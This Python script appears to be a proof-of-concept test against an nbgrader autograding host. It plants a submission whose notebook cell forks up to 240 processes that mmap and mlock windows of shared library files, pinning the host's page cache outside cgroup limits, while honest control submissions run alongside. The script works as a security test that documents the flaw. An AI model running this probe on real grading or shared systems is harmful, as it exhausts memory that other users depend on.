"""a09: a06's impact that this host can show: with the forked kernel's inherited RLIMIT_MEMLOCK (8 MiB, the grader's;
round 39 promised 64 KiB "so that no sandbox pins pages of the shared page cache"), mallory's kernel forks up to 240
children, each mmaps a different 8 MiB window of the venv's large read-only files (libtorch_cpu.so, ...) and mlocks it,
holds 10 s, exits. The host samples /proc/meminfo (Mlocked) meanwhile. As an ordinary user no cgroup counts these
pages; they are the host's shared cache, unevictable while held. Controls aaron40u, zoe40u."""
import os, sys, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"
PROBE = r'''
import os, mmap, ctypes, time, resource, sysconfig
libc = ctypes.CDLL(None, use_errno=True)
libc.mlock.argtypes = (ctypes.c_void_p, ctypes.c_size_t)
W = 8 << 20
lim = resource.getrlimit(resource.RLIMIT_MEMLOCK)[0]
W = min(W, lim - (64 << 10)) // 4096 * 4096
wins = []
for root, _, files in os.walk(sysconfig.get_paths()["purelib"]):
    for f in files:
        p = os.path.join(root, f)
        try: size = os.path.getsize(p)
        except OSError: continue
        for off in range(0, size - W, W): wins.append((p, off))
wins = wins[:240]
print("PROBE memlock", lim, "window", W, "windows", len(wins))
kids = []
for p, off in wins:
    pid = os.fork()
    if pid == 0:
        try:
            fd = os.open(p, os.O_RDONLY); m = mmap.mmap(fd, W, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED, offset=off)
            addr = ctypes.addressof(ctypes.c_char.from_buffer_copy(b"x"))  # placeholder
            buf = (ctypes.c_char * 1).from_buffer(bytearray(1))
            import ctypes.util
            a = ctypes.c_void_p.from_buffer(ctypes.py_object(m)).value
        except Exception:
            pass
        try:
            # the mapping's address: ask /proc/self/maps for the file's mapping at offset off
            for line in open("/proc/self/maps"):
                parts = line.split()
                if len(parts) >= 6 and parts[5] == p and int(parts[2], 16) == off:
                    start = int(parts[0].split("-")[0], 16)
            r = libc.mlock(start, W)
            os.write(1, b"L" if r == 0 else b"e")
            time.sleep(10)
        except Exception as e:
            os.write(1, f"[{e}]".encode())
        os._exit(0)
    kids.append(pid)
for k in kids: os.waitpid(k, 0)
print()
'''
m = honest(A)
for c in m.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        c.source = PROBE + "\n" + c.source
d = make_course("a09")
hand_in(d, "aaron40u", A, honest(A)); hand_in(d, "mallory40u", A, m); hand_in(d, "zoe40u", A, honest(A))
samples, stop = [], []
def sample():
    while not stop:
        for line in open("/proc/meminfo"):
            if line.startswith("Mlocked:"): samples.append((time.time(), int(line.split()[1])))
        time.sleep(0.5)
th = threading.Thread(target=sample); th.start()
try:
    grade(d, A); scores(d)
finally:
    stop.append(1); th.join()
base = min(v for _, v in samples); peak = max(v for _, v in samples)
print(f"host Mlocked: baseline {base/1024:.0f} MiB, peak {peak/1024:.0f} MiB (+{(peak-base)/1024:.0f} MiB)")
nb = nbformat.read(f"{d}/autograded/mallory40u/{A}/{A}.ipynb", 4)
for c in nb.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        for o in c.outputs: print(o.get("text", "")[:600])
